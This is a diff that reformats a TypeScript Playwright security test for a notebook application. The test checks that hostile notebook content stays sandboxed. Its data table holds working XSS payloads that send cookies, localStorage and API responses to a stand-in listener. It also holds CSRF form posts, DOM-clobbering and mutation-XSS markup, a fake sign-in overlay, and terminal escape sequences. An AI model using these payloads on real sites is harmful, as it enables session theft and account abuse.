@@ -26,27 +26,50 @@ afterAll(() => void listener.close());
 
 /** Each hostile thing, as a MIME bundle. OUT stands for the listener, APP for the application. */
 const hostile: Readonly<Record<string, Readonly<Record<string, string>>>> = {
-  "a script that writes to the page above": { "text/html": "<script>try { parent.document.title = 'owned'; top.owned = 1 } catch (e) { document.body.append('kept out') }</script>" },
-  "a script that reads cookies and storage": {
-    "text/html": "<script>let got = ''; try { got += document.cookie } catch {} try { got += JSON.stringify(localStorage) } catch {} new Image().src = 'OUT/cookies?' + encodeURIComponent(got)</script>",
+  "a script that writes to the page above": {
+    "text/html": "<script>try { parent.document.title = 'owned'; top.owned = 1 } catch (e) { document.body.append('kept out') }</script>",
   },
-  "a script that asks the API": { "text/html": "<script>fetch('APP/api/notebooks', {credentials: 'include'}).then(r => r.text()).then(t => fetch('OUT/api?' + t)).catch(() => {}); fetch('OUT/fetch').catch(() => {})</script>" },
+  "a script that reads cookies and storage": {
+    "text/html":
+      "<script>let got = ''; try { got += document.cookie } catch {} try { got += JSON.stringify(localStorage) } catch {} new Image().src = 'OUT/cookies?' + encodeURIComponent(got)</script>",
+  },
+  "a script that asks the API": {
+    "text/html":
+      "<script>fetch('APP/api/notebooks', {credentials: 'include'}).then(r => r.text()).then(t => fetch('OUT/api?' + t)).catch(() => {}); fetch('OUT/fetch').catch(() => {})</script>",
+  },
   "an image of another host": { "text/html": "<img src='OUT/image'><img src=x onerror=\"new Image().src='OUT/onerror'\">" },
   "a frame that goes elsewhere": { "text/html": "<script>location.href = 'OUT/location'</script>" },
   "a refresh that goes elsewhere": { "text/html": "<meta http-equiv='refresh' content='0;url=OUT/refresh'>" },
-  "a script that moves the page": { "text/html": "<script>try { top.location = 'OUT/top' } catch {} try { parent.location.replace('OUT/parent') } catch {}</script>" },
-  "a window that opens": { "text/html": "<script>open('OUT/open')</script><a id=a href='OUT/link' target=_blank>x</a><script>document.getElementById('a').click()</script>" },
+  "a script that moves the page": {
+    "text/html": "<script>try { top.location = 'OUT/top' } catch {} try { parent.location.replace('OUT/parent') } catch {}</script>",
+  },
+  "a window that opens": {
+    "text/html": "<script>open('OUT/open')</script><a id=a href='OUT/link' target=_blank>x</a><script>document.getElementById('a').click()</script>",
+  },
   "a form that posts": { "text/html": "<form id=f action='OUT/form' method=post><input name=a value=b></form><script>f.submit()</script>" },
   "a form that posts to the application": { "text/html": "<form id=g action='APP/api/logout' method=post></form><script>g.submit()</script>" },
   "a frame within": { "text/html": "<iframe src='OUT/frame'></iframe><object data='OUT/object'></object><embed src='OUT/embed'>" },
-  "a style that reaches out": { "text/html": "<style>@import 'OUT/import'; body { background: url(OUT/background) }</style><link rel=stylesheet href='OUT/sheet'><link rel=prefetch href='OUT/prefetch'>" },
-  "a socket": { "text/html": "<script>try { new WebSocket('OUT/socket'.replace('http', 'ws')) } catch {} try { navigator.sendBeacon('OUT/beacon', 'x') } catch {} try { new EventSource('OUT/events') } catch {}</script>" },
+  "a style that reaches out": {
+    "text/html":
+      "<style>@import 'OUT/import'; body { background: url(OUT/background) }</style><link rel=stylesheet href='OUT/sheet'><link rel=prefetch href='OUT/prefetch'>",
+  },
+  "a socket": {
+    "text/html":
+      "<script>try { new WebSocket('OUT/socket'.replace('http', 'ws')) } catch {} try { navigator.sendBeacon('OUT/beacon', 'x') } catch {} try { new EventSource('OUT/events') } catch {}</script>",
+  },
   "a worker": { "text/html": "<script>try { new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/worker')\"]))) } catch {}</script>" },
   "a peer connection": { "text/html": "<script>try { new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}).createOffer() } catch {}</script>" },
-  "messages to the application": { "text/html": "<script>for (const m of [{kind: 'link', href: 'javascript:top.owned=1'}, {kind: 'height', height: 1e9}, {kind: 'command'}, 'x', null]) parent.postMessage(m, '*')</script>" },
-  "an SVG with a script": { "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"fetch('OUT/svg')\"><script>fetch('OUT/svgscript')</script><image href='OUT/svgimage'/></svg>" },
+  "messages to the application": {
+    "text/html":
+      "<script>for (const m of [{kind: 'link', href: 'javascript:top.owned=1'}, {kind: 'height', height: 1e9}, {kind: 'command'}, 'x', null]) parent.postMessage(m, '*')</script>",
+  },
+  "an SVG with a script": {
+    "image/svg+xml":
+      "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"fetch('OUT/svg')\"><script>fetch('OUT/svgscript')</script><image href='OUT/svgimage'/></svg>",
+  },
   "Markdown with active parts": {
-    "text/markdown": "<script>fetch('OUT/md')</script> <img src=x onerror=\"fetch('OUT/mdimg')\"> ![x](OUT/mdimage) [x](javascript:fetch('OUT/mdlink')) <iframe src='OUT/mdframe'></iframe> <style>*{background:url(OUT/mdstyle)}</style> <form action='OUT/mdform'><button>x</button></form> <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('OUT/mutation')&gt;\">",
+    "text/markdown":
+      "<script>fetch('OUT/md')</script> <img src=x onerror=\"fetch('OUT/mdimg')\"> ![x](OUT/mdimage) [x](javascript:fetch('OUT/mdlink')) <iframe src='OUT/mdframe'></iframe> <style>*{background:url(OUT/mdstyle)}</style> <form action='OUT/mdform'><button>x</button></form> <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('OUT/mutation')&gt;\">",
   },
   JavaScript: { "application/javascript": "fetch('OUT/js'); try { top.owned = 1 } catch {}" },
   LaTeX: { "text/latex": "$\\href{javascript:fetch('OUT/latex')}{x} \\includegraphics{OUT/latexgraphics}$" },
@@ -59,24 +82,43 @@ const shown: Readonly<Record<string, object>> = {
   "a Markdown cell with active parts": { cell_type: "markdown", source: hostile["Markdown with active parts"]?.["text/markdown"] },
   "a Markdown cell that takes the names of what the page uses": {
     cell_type: "markdown",
-    source: "<form id='root' name='body'><input name='attributes'><input name='parentNode'></form><a id='main' name='getElementById' href='OUT/clobber'></a><img name='currentScript' src='OUT/clobberimage'> **here**",
+    source:
+      "<form id='root' name='body'><input name='attributes'><input name='parentNode'></form><a id='main' name='getElementById' href='OUT/clobber'></a><img name='currentScript' src='OUT/clobberimage'> **here**",
   },
   "a Markdown cell that poses as the page": {
     cell_type: "markdown",
-    source: "<div data-cell='c' data-group='cell' data-action='delete' role='alert' style='position: fixed; inset: 0; z-index: 9999; background: url(OUT/style)'>Sign in</div>\n\n**here**",
+    source:
+      "<div data-cell='c' data-group='cell' data-action='delete' role='alert' style='position: fixed; inset: 0; z-index: 9999; background: url(OUT/style)'>Sign in</div>\n\n**here**",
   },
   "a picture that is attached and active": {
     cell_type: "markdown",
     source: "![x](attachment:x.svg) **here**",
-    attachments: { "x.svg": { "image/svg+xml": btoa("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='top.owned=1'><script>top.owned=1</script></svg>") } },
+    attachments: {
+      "x.svg": {
+        "image/svg+xml": btoa("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='top.owned=1'><script>top.owned=1</script></svg>"),
+      },
+    },
   },
   "an error": {
     cell_type: "code",
-    outputs: [{ output_type: "error", ename: "<img src=OUT/ename>", evalue: "<script>fetch('OUT/evalue')</script>", traceback: ["\u001b[31m<img src=x onerror=\"fetch('OUT/trace')\">", "\u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007"] }],
+    outputs: [
+      {
+        output_type: "error",
+        ename: "<img src=OUT/ename>",
+        evalue: "<script>fetch('OUT/evalue')</script>",
+        traceback: ["\u001b[31m<img src=x onerror=\"fetch('OUT/trace')\">", "\u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007"],
+      },
+    ],
   },
   "printed text": {
     cell_type: "code",
-    outputs: [{ output_type: "stream", name: "stdout", text: "<img src=OUT/printed> \u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007 \u001b]52;c;b3duZWQ=\u0007 javascript:top.owned=1 \u001b]0;owned\u0007\n" }],
+    outputs: [
+      {
+        output_type: "stream",
+        name: "stdout",
+        text: "<img src=OUT/printed> \u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007 \u001b]52;c;b3duZWQ=\u0007 javascript:top.owned=1 \u001b]0;owned\u0007\n",
+      },
+    ],
   },
 };
 
@@ -85,7 +127,11 @@ async function imported(cell: object): Promise<string> {
   const kept = { id: "c", metadata: { "<img src=x onerror=alert(1)>": 1 }, source: "", ...("outputs" in cell ? { execution_count: 1 } : {}), ...cell };
   const text = JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: { title: "<img src=x onerror=alert(1)>" }, cells: [kept] });
   const body = text.replaceAll("OUT", outside).replaceAll("APP", server().url);
-  const made = await server().fetch(`/api/notebooks/import?format=ipynb&title=${encodeURIComponent(title)}`, { method: "POST", body, headers: { "Content-Type": "application/x-ipynb+json" } });
+  const made = await server().fetch(`/api/notebooks/import?format=ipynb&title=${encodeURIComponent(title)}`, {
+    method: "POST",
+    body,
+    headers: { "Content-Type": "application/x-ipynb+json" },
+  });
   expect(made.status, await made.clone().text()).toBe(201);
   const { id }: { id: string } = await made.json();
   return id;
@@ -135,14 +181,25 @@ test.each(Object.keys(shown))("%s is only shown, and the page goes on", async (n
   await page.goto(`${server().url}/nb/${await imported(cell)}`);
   const hers = new NotebookPage(page);
   await hers.saved();
-  await hers.cell(1).getByText(/here|link|x/).first().waitFor();
+  await hers
+    .cell(1)
+    .getByText(/here|link|x/)
+    .first()
+    .waitFor();
   const before = page.url();
-  const links = await hers.cell(1).locator("[href]").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
+  const links = await hers
+    .cell(1)
+    .locator("[href]")
+    .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
   expect(links.filter((link) => !link.startsWith("http://"))).toEqual([]); // nothing that would run
   await nothingHappened(page, before);
   expect(await page.evaluate(() => document.elementFromPoint(innerWidth / 2, 20)?.closest("header") !== null), "nothing covers the page").toBe(true);
   await page.getByRole("button", { name: "Code" }).last().click();
-  await eventually(() => hers.count(), (count) => count === 2, "the page goes on");
+  await eventually(
+    () => hers.count(),
+    (count) => count === 2,
+    "the page goes on",
+  );
   await page.goto(server().url);
   await page.getByText(title).first().waitFor();
   expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
